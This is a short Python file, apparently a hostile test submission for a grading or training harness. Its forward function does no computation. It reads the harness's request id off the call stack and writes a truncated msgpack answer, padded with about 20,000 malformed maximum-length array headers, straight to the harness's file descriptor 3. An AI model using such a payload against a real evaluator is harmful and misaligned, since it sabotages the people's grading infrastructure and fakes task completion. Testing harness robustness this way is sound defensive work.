import os
import struct
import sys

import msgspec


def number():
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"].id


def write(header, size=0, data=b""):
    os.write(3, struct.pack("<IQ", len(header), size) + header + data)


def answer(value):
    return msgspec.msgpack.encode({"type": "answer", "id": number(), "value": value})


def forward(x, w1, w2, w3, target):
    start = answer(None)[:-1]
    inner = (b"\x92\xa1l\xdd" + b"\xff" * 4) * 20000
    print("attack: announces", flush=True)
    write(start + inner)
    return None
